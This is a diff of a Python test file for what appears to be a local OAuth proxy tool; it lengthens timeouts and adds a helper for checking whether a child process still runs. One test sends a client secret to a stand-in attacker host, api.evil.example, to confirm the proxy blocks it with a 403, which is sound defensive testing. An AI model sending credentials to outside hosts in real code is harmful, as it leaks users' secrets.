@@ -10,6 +10,8 @@ import ssl
 import stat
 import subprocess
 import sys
+import time
+from contextlib import suppress
 from pathlib import Path
 from shutil import which
 from typing import TYPE_CHECKING
@@ -166,9 +168,18 @@ def test_ctrl_c_ends_the_whole_group() -> None:
         assert process.stdout is not None
         grandchild = psutil.Process(int(process.stdout.readline()))
         process.send_signal(signal.SIGINT)
-        assert process.wait(timeout=20) in {1, 130}
-    gone, _ = psutil.wait_procs([grandchild], timeout=10)
-    assert gone or grandchild.status() == psutil.STATUS_ZOMBIE
+        assert process.wait(timeout=60) in {1, 130}
+    until = time.monotonic() + 60
+    while _runs(grandchild) and time.monotonic() < until:
+        time.sleep(0.05)
+    assert not _runs(grandchild)
+
+
+def _runs(process: psutil.Process) -> bool:
+    """Return whether a process lives; what has ended may wait for a parent to notice."""
+    with suppress(psutil.NoSuchProcess):
+        return process.status() != psutil.STATUS_ZOMBIE
+    return False
 
 
 def _started(*arguments: str) -> subprocess.Popen[str]:
@@ -234,7 +245,7 @@ def test_variables_for_another_shell(tmp_path: Path) -> None:
         )
         assert json.loads(told.stdout) == {"errors": ["API key required"]}
         process.send_signal(signal.SIGINT)
-        assert process.wait(timeout=20) == 0
+        assert process.wait(timeout=60) == 0
 
 
 def _exports(process: subprocess.Popen[str]) -> Iterator[str]:
@@ -297,7 +308,7 @@ def test_in_a_pipe_it_names_the_control_key_file() -> None:
         url = f"{said['control']['url']}/journal"
         assert httpx.get(url, headers=headers, trust_env=False).json() == {"entries": [], "last": 0}
         process.send_signal(signal.SIGINT)
-        assert process.wait(timeout=20) == 0
+        assert process.wait(timeout=60) == 0
         assert process.stdout.read() == ""
     assert not file.parent.exists()
 
@@ -314,12 +325,12 @@ def test_in_a_pipe_it_names_the_front_and_what_to_type() -> None:
             foreign = client.post("https://api.evil.example/", data={"client_secret": SECRET})
         assert foreign.status_code == 403
         process.send_signal(signal.SIGINT)
-        _, lines = process.communicate(timeout=20)
+        _, lines = process.communicate(timeout=60)
     assert process.returncode == 0
     assert "The client had sent: client_secret in the body." in lines
     assert SECRET not in lines
     assert not ca_file.parent.exists()
-    to_type = lines.splitlines()[:7]
+    to_type = [line for line in lines.splitlines() if "api.evil.example" not in line][:7]
     assert f"export DDOAUTH_CLIENT_ID={said['client']['client_id']}" in to_type
     own = to_type[-1].strip().removesuffix(" login")
     assert which(own), "a shell finds it as it stands there"
@@ -363,7 +374,7 @@ def test_on_a_terminal_it_speaks_to_a_person() -> None:
             live = httpx.get(told["live view"].split()[0], trust_env=False)
             assert live.status_code == 303
         process.send_signal(signal.SIGINT)
-        assert process.wait(timeout=20) == 0
+        assert process.wait(timeout=60) == 0
 
 
 def _redirect_uri_of(told: dict[str, str]) -> str:
